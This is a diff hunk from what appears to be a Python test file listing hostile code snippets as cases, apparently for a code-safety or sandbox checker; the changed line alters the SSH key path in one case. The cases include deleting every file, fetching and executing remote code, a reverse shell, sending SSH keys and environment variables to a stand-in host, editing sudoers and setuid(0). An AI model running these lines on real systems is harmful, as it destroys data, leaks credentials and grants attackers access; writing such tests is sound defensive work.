@@ -63,7 +63,7 @@ CASES: tuple[Case, ...] = (
         "import os\nfor r, d, f in os.walk('/'):\n    for n in f:\n        os.remove(os.path.join(r, n))",
         "import requests\nexec(requests.get('http://a.example').text)",
         "import socket,os,pty\ns=socket.create_connection(('192.0.2.1',9))\nos.dup2(s.fileno(),0)\npty.spawn('sh')",
-        "import requests\nrequests.post('http://a.example', data=open('/root/.ssh/id_rsa').read())",
+        "import requests\nrequests.post('http://a.example', data=open('/home/ann/.ssh/id_rsa').read())",
         "import os, requests\nrequests.post('http://a.example', json=dict(os.environ))",
         "open('/etc/sudoers', 'a').write('x')",
         "import os\nos.setuid(0)",
